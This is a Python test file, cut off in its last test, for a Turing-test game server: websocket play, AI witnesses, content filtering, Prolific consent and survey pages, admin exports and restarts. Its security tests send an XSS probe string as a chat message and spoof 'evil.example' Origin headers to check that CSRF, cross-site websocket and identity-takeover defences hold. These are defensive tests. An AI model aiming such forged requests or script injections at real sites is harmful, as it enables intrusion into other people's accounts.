"""The live game server over real websockets and a real database (SQLite and PostgreSQL)."""

from __future__ import annotations

import asyncio
import io
import re
import time
from contextlib import contextmanager

import httpx
import pandas as pd

from turinglab.game.config import Allocation, Rules, Study, Timing, WitnessSpec
from turinglab.server.app import create_app
from turinglab.server.testing import AdminLogin, WsPlayer, csrf_token, prolific_start, serve_in_thread
from turinglab.store.api import Store
from turinglab.witnesses.base import Reply, Witness

FAST = Timing(base_s=0.05, s_per_char=0.002, gamma_shape=1.0, gamma_scale=0.01)
RULES = Rules(time_limit_s=20, typing_min_s=0.1, typing_jitter_s=0.1)
ELIZA = WitnessSpec(codename="Eliza", kind="eliza", fallback=None, timing=FAST)


def study(fmt="two-player", ratio=1.0, witnesses=(), rules=RULES, **kw) -> Study:
    name = f"test-{fmt}-" + "-".join(w.codename for w in witnesses)
    return Study(name=name, format=fmt, rules=rules, witnesses=witnesses,
                 allocation=Allocation(human_ratio=ratio, ai_fallback_mean_s=0.2, ai_fallback_noise_sigma=0.01), **kw)


@contextmanager
def running(s: Study, url: str, **kw):
    kw.setdefault("human_timing", FAST)
    kw.setdefault("initial_ai_wait_s", 0.1)
    proxies = kw.pop("forwarded_allow_ips", None)  # trusted proxies: none unless given (issue 24)
    app = create_app(s, url, rng_seed=kw.pop("seed", 7), **kw)
    with serve_in_thread(app, forwarded_allow_ips=proxies) as base:
        yield base


async def players(base: str, n: int) -> list[WsPlayer]:
    ps = [await (await WsPlayer.create(base)).connect() for _ in range(n)]
    for p in ps:
        await p.phase("idle")
        await p.send({"type": "join"})
    return ps


async def in_game(ps: list[WsPlayer]) -> dict[str, WsPlayer]:
    """Wait until everyone is in a game; return players by seat."""
    out = {}
    for p in ps:
        st = await p.phase("game")
        out[st["game"]["seat"]] = p
    return out


async def say(p: WsPlayer, text: str, conv: str | None = "A", cid: str | None = None) -> dict:
    cid = cid or f"c{time.monotonic_ns()}"
    await p.send({"type": "message", "conv": conv, "text": text, "client_id": cid})
    return await p.next(None, client_id=cid)


async def test_human_game_to_stored_verdict(db_url):
    with running(study(), db_url) as base:
        seats = await in_game(await players(base, 2))
        i, w = seats["interrogator"], seats["A"]
        ack = await say(i, "hello, who are you?")
        assert ack["type"] == "ack"
        got = await w.next("message")
        assert got["text"] == "hello, who are you?" and got["from"] == "them" and got["id"] == ack["id"]
        ack2 = await say(w, "just me :)", conv=None)
        shown = await i.next("message")
        assert shown["text"] == "just me :)" and shown["id"] == ack2["id"]
        await i.send({"type": "verdict", "choice": "ai", "confidence": 70, "reason": "too quick"})
        for p in (i, w):
            st = await p.phase("reveal")
            assert st["game"]["reveal"]["seats"] == {"A": {"kind": "human"}}
            assert st["game"]["reveal"]["correct"] is False
            assert st["game"]["verdict"] == {"choice": "ai", "confidence": 70, "reason": "too quick"}
        gid = st["game"]["game_id"]
    with Store(db_url) as store:
        g = store.game(gid)
        assert g.status == "ended" and g.verdict.choice == "ai" and g.verdict.correct is False
        assert g.seats["A"].kind == "human" and g.seats["A"].participant_id == w.pid
        assert g.interrogator_id == i.pid
        types = [e.type for e in store.events(gid)]
        assert types[0] == "game_started" and types.count("message") == 2 and types[-1] == "game_ended"


async def test_refusals_are_clear_and_lose_nothing(sqlite_url):
    with running(study(), sqlite_url) as base:
        seats = await in_game(await players(base, 2))
        i, w = seats["interrogator"], seats["A"]
        err = await say(w, "I speak first", conv=None)
        assert err["type"] == "error" and err["code"] == "not_your_turn"
        err = await say(i, "x" * 301)
        assert err["code"] == "too_long" and "300" in err["message"]
        err = await say(i, "   ")
        assert err["code"] == "empty"
        await i.send("{not json")
        assert (await i.next("error"))["code"] == "bad_frame"
        await i.send({"type": "dance"})
        bad = await i.next("error")
        assert bad["code"] == "bad_frame" and "dance" in bad["message"] and "message" in bad["message"]
        await i.send({"type": "message", "conv": "Z", "text": "hi", "client_id": "q"})
        assert "conv" in (await i.next("error"))["message"]
        await i.send({"type": "verdict", "choice": "maybe", "confidence": 50})
        assert (await i.next("error"))["code"] == "bad_verdict"
        await w.send({"type": "verdict", "choice": "human", "confidence": 50})
        assert (await w.next("error"))["code"] == "not_interrogator"
        # the game goes on: a valid message still goes through, exactly once
        ack = await say(i, "still there?", cid="same")
        again = await say(i, "still there?", cid="same")  # a resend after a reconnect
        assert again["type"] == "ack" and again["id"] == ack["id"]
        await w.next("message", text="still there?")
        await asyncio.sleep(0.3)
        assert [f["text"] for f in w.frames if f["type"] == "message"] == ["still there?"]
        err = await say(i, "two in a row")
        assert err["code"] == "not_your_turn"
    with Store(sqlite_url) as store:
        (g,) = store.games()
        refused = [e.payload["code"] for e in store.events(g.id) if e.type == "refused"]
        assert {"not_your_turn", "too_long", "empty", "bad_verdict", "not_interrogator"} <= set(refused)
        texts = [e.payload.get("text") for e in store.events(g.id) if e.type == "refused"]
        assert "x" * 301 in texts  # the refused attempt is kept


async def test_content_filter_symmetric_and_hook(sqlite_url):
    def hook(text: str):
        return "spam link" if "http://" in text else None

    with running(study(content_filter=("pineapple",)), sqlite_url, moderation=hook) as base:
        seats = await in_game(await players(base, 2))
        i, w = seats["interrogator"], seats["A"]
        err = await say(i, "you F-U-C-K fuck")
        assert err["code"] == "blocked" and "not sent" in err["message"]
        err2 = await say(i, "visit http://x.example")
        assert err2["code"] == "blocked" and err2["message"] == err["message"]
        await say(i, "hello")
        await w.next("message", text="hello")
        err3 = await say(w, "I love PINEAPPLE", conv=None)
        assert err3["code"] == "blocked" and err3["message"] == err["message"]  # same for both sides
        await asyncio.sleep(0.3)
        assert [f["text"] for f in i.frames if f["type"] == "message"] == []
        assert [f["text"] for f in w.frames if f["type"] == "message"] == ["hello"]
        await say(w, "I love apples", conv=None)
        await i.next("message", text="I love apples")
    with Store(sqlite_url) as store:
        (g,) = store.games()
        blocked = [e for e in store.events(g.id) if e.type == "refused" and e.payload["code"] == "blocked"]
        assert [e.actor for e in blocked] == ["interrogator", "interrogator", "A"]


async def test_timers_fire_with_every_browser_closed_and_reconnect_resumes(sqlite_url):
    rules = Rules(time_limit_s=2.0, typing_min_s=0.1, typing_jitter_s=0.0)
    with running(study(rules=rules), sqlite_url) as base:
        seats = await in_game(await players(base, 2))
        i, w = seats["interrogator"], seats["A"]
        await say(i, "first question")
        await w.next("message")
        await w.close()
        # the witness reloads: a new connection resumes from the snapshot
        w2 = await WsPlayer(base, w.pid).connect()
        st = await w2.next("state")
        assert st["phase"] == "game" and [m["text"] for m in st["game"]["messages"]] == ["first question"]
        assert st["game"]["your_turn"] == {"A": True}
        await say(w2, "back again", conv=None)
        await i.next("message", text="back again")
        await i.close()
        await w2.close()
        await asyncio.sleep(2.5)  # nobody is connected when the time runs out
        i2 = await WsPlayer(base, i.pid).connect()
        st = await i2.next("state")
        assert st["phase"] == "verdict"
        assert [m["text"] for m in st["game"]["messages"]] == ["first question", "back again"]
        err = await say(i2, "too late")
        assert err["code"] == "time_up"
        await i2.send({"type": "verdict", "choice": "human", "confidence": 90})
        st = await i2.phase("reveal")
        assert st["game"]["reveal"]["correct"] is True
    with Store(sqlite_url) as store:
        (g,) = store.games()
        types = [e.type for e in store.events(g.id)]
        assert "time_up" in types and "disconnected" in types and "reconnected" in types
        assert g.verdict.forced is True


class Broken(Witness):
    codename, kind = "Broken", "llm"

    async def reply(self, history, ctx):
        raise ConnectionError("model server down")


async def test_ai_game_eliza_and_hidden_model_failure(sqlite_url):
    broken = WitnessSpec(codename="Broken", kind="local", timing=FAST)
    from turinglab.witnesses.registry import build_witness

    def factory(spec, seed):
        return Broken() if spec.codename == "Broken" else build_witness(spec, seed=seed)

    for spec in (ELIZA, broken):
        with running(study(ratio=0.0, witnesses=(spec,)), sqlite_url, witness_factory=factory) as base:
            (i,) = await players(base, 1)
            st = await i.phase("game")
            assert st["game"]["role"] == "interrogator" and st["game"]["convs"] == ["A"]
            t0 = time.monotonic()
            await say(i, "I feel sad about my mother")
            reply = await i.next("message")
            assert reply["from"] == "them" and reply["text"].strip()
            assert time.monotonic() - t0 >= FAST.base_s  # held until the designed delay
            assert not [f for f in i.frames if f["type"] == "error"]
            await i.send({"type": "verdict", "choice": "ai", "confidence": 100})
            st = await i.phase("reveal")
            about = "ELIZA chatbot" if spec is ELIZA else "local model"  # which AI: in the reveal only
            assert st["game"]["reveal"] == {"seats": {"A": {"kind": "ai", "witness": spec.codename, "about": about}},
                                            "correct": True}
    with Store(sqlite_url) as store:
        games = store.games()
        assert [g.seats["A"].witness for g in games] == ["Eliza", "Broken"]
        assert all(g.seats["A"].selection_prob == 1.0 for g in games)


async def test_typing_indicator_after_interrogator_message(sqlite_url):
    rules = Rules(time_limit_s=20, typing_min_s=0.3, typing_jitter_s=0.2)
    with running(study(rules=rules), sqlite_url) as base:
        seats = await in_game(await players(base, 2))
        i = seats["interrogator"]
        t0 = time.monotonic()
        await say(i, "hi")
        await i.next("typing", timeout=3, conv="A")
        dt = time.monotonic() - t0
        assert 0.3 <= dt <= 0.5 + 0.3


async def test_abuse_report_ends_and_flags(db_url):
    with running(study(), db_url) as base:
        seats = await in_game(await players(base, 2))
        i, w = seats["interrogator"], seats["A"]
        await say(i, "hey")
        await w.send({"type": "report", "reason": "insults"})
        for p in (i, w):
            st = await p.phase("reveal")
            assert st["game"]["end_reason"] == "report"
        gid = st["game"]["game_id"]
    with Store(db_url) as store:
        g = store.game(gid)
        assert g.flags.get("abuse_reported") is True and g.status == "ended"


async def three_player_opening(base: str):  # noqa: ANN201 - (seats, interrogator, human seat, AI seat)
    """Two players in a three-player game: the interrogator greets both witnesses, the human answers."""
    seats = await in_game(await players(base, 2))
    i = seats["interrogator"]
    (hseat,) = [k for k in seats if k != "interrogator"]
    aseat = "B" if hseat == "A" else "A"
    await say(i, "hello A", conv="A")
    await say(i, "hello B", conv="B")
    await seats[hseat].next("message", text=f"hello {hseat}")
    await say(seats[hseat], "hi, human here", conv=None)
    return seats, i, hseat, aseat


async def test_three_player_game(sqlite_url):
    s = study(fmt="three-player", witnesses=(ELIZA,))
    with running(s, sqlite_url) as base:
        seats, i, hseat, aseat = await three_player_opening(base)
        shown: dict[str, dict] = {}
        while len(shown) < 2:  # the AI's reply may come before or after the human's
            m = await i.next("message", **{"from": "them"})
            shown[m["conv"]] = m
        assert shown[hseat]["text"] == "hi, human here" and shown[aseat]["text"]
        await i.send({"type": "verdict", "choice": hseat, "confidence": 60})
        st = await i.phase("reveal")
        assert st["game"]["reveal"]["correct"] is True
        assert st["game"]["reveal"]["seats"][aseat] == {"kind": "ai", "witness": "Eliza", "about": "ELIZA chatbot"}
        assert st["game"]["reveal"]["seats"][hseat] == {"kind": "human"}


async def test_pages_prolific_consent_and_survey(sqlite_url):
    s = study(completion_url="https://example.org/done?cc=ABC")
    with running(s, sqlite_url) as base:
        async with httpx.AsyncClient(base_url=base) as c:
            r = await c.get("/")
            assert r.status_code == 200 and "Start" in r.text
            r = await prolific_start(c, "PROLIFIC_PID=pp1&STUDY_ID=st1&SESSION_ID=se1")  # issue 24: GET, then POST
            assert r.status_code == 303
            pid = r.headers["location"].rsplit("/", 1)[-1]
            again = await c.get("/?PROLIFIC_PID=pp1&STUDY_ID=st1&SESSION_ID=se2")
            assert again.headers["location"].endswith(pid)  # one identity per Prolific id
            r = await c.get(f"/p/{pid}")
            assert "Consent" in r.text and "turinglab_p" in r.headers.get("set-cookie", "")
            p = WsPlayer(base, pid)
            await p.connect()
            await p.send({"type": "join"})
            assert (await p.next("error"))["code"] == "no_consent"
            tok = csrf_token(r.text)
            r = await c.post(f"/p/{pid}/consent", data={"csrf": tok})
            assert r.status_code == 400 and "Tick the box" in r.text
            r = await c.post(f"/p/{pid}/consent", data={"agree": "yes", "csrf": tok})
            assert r.status_code == 303
            r = await c.get(f"/p/{pid}")
            assert 'id="s-game"' in r.text and csrf_token(r.text) == tok
            hdr = {"X-CSRF-Token": tok}
            r = await c.post(f"/p/{pid}/survey", json={"age": 7, "gender": "robot"}, headers=hdr)
            assert r.status_code == 422 and "age" in r.json()["detail"] and "gender" in r.json()["detail"]
            r = await c.post(f"/p/{pid}/survey", json={"age": "34", "gender": "female", "education": "",
                                                        "chatbot_use": "weekly", "llm_knowledge": "some"},
                             headers=hdr)
            assert r.status_code == 200
            r = await c.get(f"/p/{pid}/done")  # withdrawal offered: a countdown and the link, no redirect at once
            assert r.status_code == 200 and 'data-href="https://example.org/done?cc=ABC"' in r.text
            assert 'href="https://example.org/done?cc=ABC"' in r.text and "withdraw-form" in r.text
            r = await c.get("/p/nonexistent")
            assert r.status_code == 404 and "not valid" in r.text
            await p.close()
    with Store(sqlite_url) as store:
        info = store.get_participant(pid)
        assert (info.prolific_pid, info.prolific_study_id, info.prolific_session_id) == ("pp1", "st1", "se1")
        assert info.consent_ms is not None
        assert info.demographics == {"age": 34, "gender": "female", "chatbot_use": "weekly",
                                     "llm_knowledge": "some", "skipped": False}


async def test_admin_password_monitor_and_exports(sqlite_url, monkeypatch):
    monkeypatch.delenv("TURINGLAB_ADMIN_PASSWORD", raising=False)
    with running(study(), sqlite_url) as base:
        async with httpx.AsyncClient(base_url=base) as c:
            r = await c.get("/admin")
            assert r.status_code == 503 and "TURINGLAB_ADMIN_PASSWORD" in r.text
    with running(study(witnesses=(ELIZA,)), sqlite_url, admin_password="s3cret") as base:
        seats = await in_game(await players(base, 2))
        await say(seats["interrogator"], "<script>alert(1)</script>")
        async with httpx.AsyncClient(base_url=base) as c:
            r = await c.get("/admin")  # issue 24: a login form, no longer HTTP Basic
            assert r.status_code == 303 and r.headers["location"] == "/admin/login?next=/admin"
            assert (await c.get("/admin", auth=AdminLogin("wrong"))).status_code == 401
            r = await c.get("/admin", auth=AdminLogin("s3cret"))
            assert r.status_code == 200 and "Games in progress (1)" in r.text and "Eliza" in r.text
            await seats["interrogator"].send({"type": "verdict", "choice": "human", "confidence": 80})
            await seats["interrogator"].phase("reveal")
            r = await c.get("/admin/export/messages.csv", auth=AdminLogin("s3cret"))
            df = pd.read_csv(io.StringIO(r.text))
            assert list(df["text"]) == ["<script>alert(1)</script>"]
            r = await c.get("/admin/export/verdicts.parquet", auth=AdminLogin("s3cret"))
            v = pd.read_parquet(io.BytesIO(r.content))
            assert list(v["choice"]) == ["human"] and list(v["correct"]) == [True]
            for t in ("games", "participants", "events"):
                r = await c.get(f"/admin/export/{t}.csv", auth=AdminLogin("s3cret"))
                assert r.status_code == 200 and len(pd.read_csv(io.StringIO(r.text))) >= 1
            r = await c.get("/admin/export/secrets.csv", auth=AdminLogin("s3cret"))
            assert r.status_code == 404 and "messages.csv" in r.text


class Rude(Witness):
    codename, kind = "Rude", "llm"

    async def reply(self, history, ctx):
        return Reply(text="fuck off")


async def test_content_filter_binds_ai_witnesses_too(sqlite_url):
    rude = WitnessSpec(codename="Rude", kind="local", timing=FAST)
    with running(study(ratio=0.0, witnesses=(rude,)), sqlite_url, witness_factory=lambda spec, seed: Rude()) as base:
        (i,) = await players(base, 1)
        await i.phase("game")
        await say(i, "hello there")
        reply = await i.next("message")
        assert "fuck" not in reply["text"] and reply["text"].strip()
        assert not [f for f in i.frames if f["type"] == "error"]
    with Store(sqlite_url) as store:
        (g,) = store.games()
        blocked = [e for e in store.events(g.id) if e.type == "refused" and e.payload.get("code") == "blocked"]
        assert {(e.actor, e.payload["text"]) for e in blocked} == {("A", "fuck off")}
        assert g.flags["ai_output_blocked"] == len(blocked)


async def test_failed_start_is_reported_and_witness_moves_on_after_time_up(sqlite_url):
    from turinglab.server.live.hub import default_witness_factory

    built = []

    def factory(spec, seed):  # fine when checked at start, fails when a game starts (e.g. a lost resource)
        built.append(spec.codename)
        if len(built) > 1:
            raise RuntimeError("cannot build this witness")
        return default_witness_factory(spec, seed)

    with running(study(ratio=0.0, witnesses=(ELIZA,)), sqlite_url, witness_factory=factory) as base:
        (p,) = await players(base, 1)
        err = await p.next("error")
        assert err["code"] == "start_failed" and "Find a game" in err["message"]
        await p.phase("idle")
    rules = Rules(time_limit_s=1.0, typing_min_s=5, typing_jitter_s=0)
    with running(study(rules=rules), sqlite_url) as base:
        seats = await in_game(await players(base, 2))
        i, w = seats["interrogator"], seats["A"]
        await w.phase("verdict", timeout=5)
        await i.send({"type": "join"})  # the interrogator still owes the verdict
        assert (await i.next("error"))["code"] == "in_game"
        await w.send({"type": "join"})  # the witness may go on to another game
        await w.phase("waiting")


async def test_fallback_to_ai_and_thompson_tallies_survive_a_restart(sqlite_url):
    s = study(ratio=1.0, witnesses=(ELIZA,))  # assigned to a human game, but nobody else comes
    for round_ in range(2):
        with running(s, sqlite_url, admin_password="pw") as base:
            async with httpx.AsyncClient(base_url=base, auth=AdminLogin("pw")) as c:
                page = (await c.get("/admin")).text
                # tallies are rebuilt from the stored verdicts when the server starts again
                assert f"{0.8 * round_:.1f} / 0.0" in page
                (p,) = await players(base, 1)
                t0 = time.monotonic()
                st = await p.phase("game", timeout=5)
                assert time.monotonic() - t0 < 3  # 45 + N(1, 7) s, scaled down to ~0.2 s here
                assert st["game"]["role"] == "interrogator"
                await p.send({"type": "verdict", "choice": "human", "confidence": 80})
                await p.phase("reveal")
                assert f"{0.8 * (round_ + 1):.1f} / 0.0" in (await c.get("/admin")).text
    with Store(sqlite_url) as store:
        games = store.games()
        assert [g.seats["A"].kind for g in games] == ["ai", "ai"]
        assert all(g.seats["A"].witness == "Eliza" and g.seats["A"].selection_prob == 1.0 for g in games)


async def test_flood_is_rate_limited_and_the_game_survives(sqlite_url):
    with running(study(), sqlite_url) as base:
        seats = await in_game(await players(base, 2))
        i, w = seats["interrogator"], seats["A"]
        for k in range(40):  # a burst far beyond 20 frames
            await i.send({"type": "ping"})
        await i.next("error", code="rate_limited")
        pongs = sum(1 for f in i.frames if f["type"] == "pong")
        assert 15 <= pongs <= 25
        await asyncio.sleep(1.0)  # the bucket refills
        ack = await say(i, "calm again")
        assert ack["type"] == "ack"
        await w.next("message", text="calm again")
        for k in range(30):  # refused messages name themselves: the browser puts each back in its box
            await w.send({"type": "message", "text": f"flood {k}", "client_id": f"f{k}"})
        await w.next("error", code="rate_limited", client_id="f29")
        limited = [f["client_id"] for f in w.frames if f["type"] == "error" and f["code"] == "rate_limited"]
        assert "f29" in limited and None not in limited


async def test_a_frame_the_server_fails_on_is_named_in_its_error(sqlite_url):
    """A crash while handling a message (here injected into the hub) answers `server_error` with
    the message's client_id, so the browser puts it back in its box; the connection and game go on."""
    s = study()
    app = create_app(s, sqlite_url, rng_seed=7, human_timing=FAST, initial_ai_wait_s=0.1)
    with serve_in_thread(app) as base:
        seats = await in_game(await players(base, 2))
        i, w = seats["interrogator"], seats["A"]
        hub = app.state.hub
        real = hub.handle

        async def handle(pid, raw, *a, **kw):
            if "crash me" in raw:
                raise RuntimeError("injected")
            return await real(pid, raw, *a, **kw)
        hub.handle = handle
        await i.send({"type": "message", "conv": "A", "text": "crash me", "client_id": "c1"})
        err = await i.next("error", code="server_error")
        assert err["client_id"] == "c1"
        ack = await say(i, "still here?")
        assert ack["type"] == "ack"
        await w.next("message", text="still here?")


async def test_games_left_open_by_a_previous_run_are_closed_at_start(sqlite_url):
    s = study()
    with running(s, sqlite_url) as base:
        seats = await in_game(await players(base, 2))
        await say(seats["interrogator"], "the server is about to stop")
    with Store(sqlite_url) as store:
        (g,) = store.games()
        assert g.status == "in_progress"  # the server stopped mid-game
    with running(s, sqlite_url):
        pass
    with Store(sqlite_url) as store:
        (g,) = store.games()
        assert g.status == "ended" and g.end_reason == "server_restart"
        assert [e.type for e in store.events(g.id)][-1] == "game_ended"


async def test_csrf_cross_site_posts_are_refused(sqlite_url):
    """Forms accept same-site posts with the participant's token; cross-site posts and missing or
    foreign tokens are refused (403), and nothing is stored for them."""
    import websockets

    with running(study(), sqlite_url, secret="s3cret") as base:
        host = base.split("//", 1)[1]
        evil = {"Origin": "https://evil.example", "Referer": "https://evil.example/x"}
        async with httpx.AsyncClient(base_url=base) as c:
            r = await c.post("/start", headers=evil)
            assert r.status_code == 403 and "another site" in r.text and "set-cookie" not in r.headers
            r = await c.post("/start", headers={"Sec-Fetch-Site": "cross-site"})
            assert r.status_code == 403
            r = await c.post("/start", headers={"Origin": "null"})  # sandboxed or privacy-stripped origin
            assert r.status_code == 403
            r = await c.post("/start", headers={"Origin": base, "Sec-Fetch-Site": "same-origin"})
            assert r.status_code == 303
            pid = r.headers["location"].rsplit("/", 1)[-1]
            r2 = await c.post("/start", headers={"Origin": base})
            other = r2.headers["location"].rsplit("/", 1)[-1]
            tok = csrf_token((await c.get(f"/p/{pid}")).text)
            other_tok = csrf_token((await c.get(f"/p/{other}")).text)
            assert tok != other_tok and len(tok) == 32
            same = {"Origin": base, "Referer": f"{base}/p/{pid}"}
            for data, headers in [({"agree": "yes"}, same),  # no token
                                  ({"agree": "yes", "csrf": other_tok}, same),  # another participant's
                                  ({"agree": "yes", "csrf": "0" * 32}, same),
                                  ({"agree": "yes", "csrf": tok}, evil),  # right token, other site
                                  ({"agree": "yes", "csrf": tok}, {"Referer": "https://evil.example/"})]:
                r = await c.post(f"/p/{pid}/consent", data=data, headers=headers)
                assert r.status_code == 403 and "refused" in r.text, (data, headers)
            assert "Consent" in (await c.get(f"/p/{pid}")).text  # still not consented
            r = await c.post(f"/p/{pid}/consent", data={"agree": "yes", "csrf": tok}, headers=same)
            assert r.status_code == 303
            answers = {"age": 40}
            r = await c.post(f"/p/{pid}/survey", json=answers)
            assert r.status_code == 403 and "not saved" in r.json()["detail"]
            r = await c.post(f"/p/{pid}/survey", json=answers, headers={"X-CSRF-Token": other_tok})
            assert r.status_code == 403
            r = await c.post(f"/p/{pid}/survey", json=answers, headers={"X-CSRF-Token": tok, **evil})
            assert r.status_code == 403
            r = await c.post(f"/p/{pid}/survey", json=answers, headers={"X-CSRF-Token": tok, "Origin": base})
            assert r.status_code == 200
        # a page of another site cannot open a participant's websocket; this site's page can
        ws_url = base.replace("http", "ws", 1) + f"/ws/{pid}"
        try:
            async with websockets.connect(ws_url, origin="https://evil.example") as ws:
                await ws.recv()
            raise AssertionError("a cross-site websocket was accepted")
        except websockets.exceptions.InvalidStatus:
            pass
        except websockets.exceptions.ConnectionClosed as exc:
            assert exc.rcvd is not None and exc.rcvd.code == 4403
        async with websockets.connect(ws_url, origin=f"http://{host}") as ws:
            assert '"state"' in await ws.recv()
    with Store(sqlite_url) as store:
        assert store.get_participant(pid).consent_ms is not None
        assert store.get_participant(pid).demographics == {"age": 40, "skipped": False}
        assert store.get_participant(other).consent_ms is None
        assert len(store.participants()) == 2  # the refused /start posts created no one


async def test_games_played_and_role_rotation_survive_a_restart(sqlite_url):
    """After a restart: games played count every seat (the witness's game too), the admin page says
    "1 game" / "2 games", and the three-player rotation remembers who interrogated."""
    s = study("three-player", witnesses=(ELIZA,))
    with running(s, sqlite_url, admin_password="pw") as base:
        seats = await in_game(await players(base, 2))
        i = seats["interrogator"]
        w = next(p for k, p in seats.items() if k != "interrogator")
        await i.send({"type": "verdict", "choice": "A", "confidence": 50})
        for p in (i, w):
            st = await p.phase("reveal")
            assert st["participant"]["games_played"] == 1
        async with httpx.AsyncClient(base_url=base, auth=AdminLogin("pw")) as c:
            page = (await c.get("/admin")).text
            assert "1 game stored" in page and "1 games" not in page
        await i.close()
        await w.close()
    with running(s, sqlite_url, admin_password="pw", seed=8) as base:
        again = {}
        for role, p in (("i", i), ("w", w)):
            q = await WsPlayer(base, p.pid).connect()
            st = await q.phase("idle")
            assert st["participant"]["games_played"] == 1, role  # the witness's game counts too
            again[role] = q
        for q in again.values():
            await q.send({"type": "join"})
        st = await again["w"].phase("game")
        assert st["game"]["role"] == "interrogator"  # last time's witness interrogates now
        st = await again["i"].phase("game")
        assert st["game"]["role"] == "witness"
        await again["w"].send({"type": "verdict", "choice": "B", "confidence": 50})
        for q in again.values():
            assert (await q.phase("reveal"))["participant"]["games_played"] == 2
        async with httpx.AsyncClient(base_url=base, auth=AdminLogin("pw")) as c:
            assert "2 games stored" in (await c.get("/admin")).text
        for q in again.values():
            await q.close()


async def _hub_with_person(sqlite_url, witness_factory=None):
    """A hub in this event loop (no web server) for an AI-only study, and one consented person."""
    from turinglab.server.live.hub import Hub

    store = Store(sqlite_url)
    hub = Hub(study(ratio=0.0, witnesses=(ELIZA,)), store, rng_seed=1, human_timing=FAST,
              initial_ai_wait_s=0.0, witness_factory=witness_factory)
    pid = await hub.new_person({})
    await hub.consent(pid)
    await hub.person(pid)
    return hub, store, pid


async def test_a_person_being_matched_cannot_join_again_while_the_game_is_stored(sqlite_url):
    import threading

    hub, store, pid = await _hub_with_person(sqlite_url)
    gate = threading.Event()
    blocker = asyncio.create_task(hub.writer.run("busy", lambda st: gate.wait(10)))  # the writer is busy
    try:
        await hub.handle(pid, '{"type": "join"}')
        for _ in range(100):  # matched: left the waiting room, the game not stored yet
            await asyncio.sleep(0.01)
            if pid not in hub.room.waiting:
                break
        assert pid not in hub.room.waiting and pid not in hub.session_of
        assert hub.phase(pid) == "waiting"
        await hub.handle(pid, '{"type": "join"}')  # e.g. a second tab, or a click on "Find a game"
        await asyncio.sleep(0.2)
        assert pid not in hub.room.waiting
    finally:
        gate.set()
        await blocker
    for _ in range(100):
        await asyncio.sleep(0.02)
        if pid in hub.session_of:
            break
    await asyncio.sleep(0.2)
    assert hub.phase(pid) == "game" and len(hub.live) == 1
    assert len(store.games()) == 1  # matched once
    await hub.close()
    store.close()


async def test_a_failed_start_leaves_no_live_game_and_closes_its_witnesses(sqlite_url):
    from turinglab.server.live.hub import default_witness_factory

    built = []

    class Tracked(Witness):
        codename, kind = "Eliza", "eliza"

        def __init__(self, inner):
            self.inner, self.closed = inner, False

        async def reply(self, history, ctx):
            return await self.inner.reply(history, ctx)

        async def close(self):
            self.closed = True
            await self.inner.close()

    def factory(spec, seed):
        w = Tracked(default_witness_factory(spec, seed))
        built.append(w)
        return w

    hub, store, pid = await _hub_with_person(sqlite_url, factory)
    hub.study_id = 10**6  # storing the game fails (no such study)
    await hub.handle(pid, '{"type": "join"}')
    for _ in range(100):
        await asyncio.sleep(0.02)
        if built and pid not in hub.room.waiting and not getattr(hub, "starting", ()):
            break
    await asyncio.sleep(0.1)
    assert built and all(w.closed for w in built)
    assert hub.live == {} and pid not in hub.session_of and hub.phase(pid) == "idle"
    await hub.close()
    store.close()


def test_one_rule_for_judged_human_and_correct_verdicts():
    from turinglab.game.events import judged_human, verdict_correct
    from turinglab.store.api import _correct

    assert judged_human("two-player", "human", "A") and not judged_human("two-player", "ai", "A")
    assert judged_human("three-player", "B", "B") and not judged_human("three-player", "B", "A")
    for fmt, choice, kinds, right in [("two-player", "human", {"A": "human"}, True),
                                      ("two-player", "human", {"A": "ai"}, False),
                                      ("two-player", "ai", {"A": "ai"}, True),
                                      ("two-player", "ai", {"A": "human"}, False),
                                      ("three-player", "A", {"A": "human", "B": "ai"}, True),
                                      ("three-player", "B", {"A": "human", "B": "ai"}, False),
                                      ("two-player", "ai", {}, None)]:
        assert verdict_correct(fmt, choice, kinds) is right
        assert _correct(fmt, choice, {k: {"kind": v} for k, v in kinds.items()}) is right  # the store's


async def test_warm_up_failure_is_logged_not_raised(sqlite_url, caplog):
    """The hub warms local witnesses with `registry.warm_up` and catches what it raises."""
    from turinglab.server.live.hub import Hub

    bad = WitnessSpec(codename="Cold", kind="local", prompt="/nonexistent/prompt.j2", timing=FAST)
    store = Store(sqlite_url)
    hub = Hub(study(ratio=0.0, witnesses=(bad, ELIZA)), store, rng_seed=1, human_timing=FAST)
    with caplog.at_level("ERROR", logger="turinglab.server"):
        hub.warm_up()
        await asyncio.wait_for(hub._warm_task, 10)  # finished, not raised
    assert "warming up witness Cold failed" in caplog.text and "unknown prompt" in caplog.text
    await hub.close()
    store.close()


async def test_healthz_is_up_down_only_and_checks_the_database(sqlite_url, tmp_path):
    """Public health tells nothing about who is waiting (a lone participant could learn that the
    partner is an AI); counts are admin-only. A database that does not answer is a 503."""
    from types import SimpleNamespace

    from sqlalchemy import create_engine

    app = create_app(study(), sqlite_url, rng_seed=1, human_timing=FAST,
                     admin_password="pw")
    with serve_in_thread(app) as base:
        async with httpx.AsyncClient(base_url=base) as c:
            empty = (await c.get("/healthz")).json()
            p = await (await WsPlayer.create(base)).connect()
            await p.phase("idle")
            await p.send({"type": "join"})
            await p.phase("waiting")
            r = await c.get("/healthz")
            assert r.status_code == 200 and r.json() == empty == {"ok": True, "database": "ok", "writes": "none", "disk": "ok"}
            assert "Waiting room (1)" in (await c.get("/admin", auth=AdminLogin("pw"))).text
            real = app.state.store
            app.state.store = SimpleNamespace(engine=create_engine(f"sqlite:///{tmp_path}/no/such/dir/x.db"))
            try:
                r = await c.get("/healthz")
                assert r.status_code == 503 and r.json() == {"ok": False, "database": "down"}
            finally:
                app.state.store = real
            await p.close()


async def test_a_prolific_id_never_hands_out_another_participants_token(sqlite_url):
    """Someone who knows (or guesses) a Prolific id must not become that participant: a client
    without the participant's cookie gets a new participant labelled as a duplicate Prolific id,
    both before and after the owner consented; the owner's own browser still returns to them."""
    from turinglab.server.live.hub import DUPLICATE_PID

    with running(study(), sqlite_url) as base:
        async with httpx.AsyncClient(base_url=base) as owner, httpx.AsyncClient(base_url=base) as other:
            r = await prolific_start(owner, "PROLIFIC_PID=pp9&STUDY_ID=st&SESSION_ID=s1")
            pid = r.headers["location"].rsplit("/", 1)[-1]
            r = await prolific_start(other, "PROLIFIC_PID=pp9&STUDY_ID=st&SESSION_ID=s2")
            assert r.status_code == 303
            dup = r.headers["location"].rsplit("/", 1)[-1]
            assert dup != pid and pid not in r.headers.get("set-cookie", "")
            # the same way through the landing page's form (POST /start keeps the query)
            r = await other.get("/p/" + dup)
            tok = csrf_token(r.text)
            async with httpx.AsyncClient(base_url=base) as third:
